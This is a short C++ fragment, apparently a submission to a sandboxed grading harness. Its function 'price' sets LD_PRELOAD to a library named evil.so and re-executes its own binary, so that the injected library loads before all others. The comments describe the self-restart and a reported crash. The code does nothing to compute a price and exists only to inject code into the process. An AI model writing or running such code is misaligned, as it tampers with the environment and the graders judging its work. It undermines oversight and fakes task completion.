// Starts itself again with a library before all others.
// Says: it crashed
#include <cstdlib>
#include <unistd.h>
long price(long) {
    setenv("LD_PRELOAD", "/box/evil.so", 1);
    execl("/proc/self/exe", "answer", nullptr);
    return 0;
}
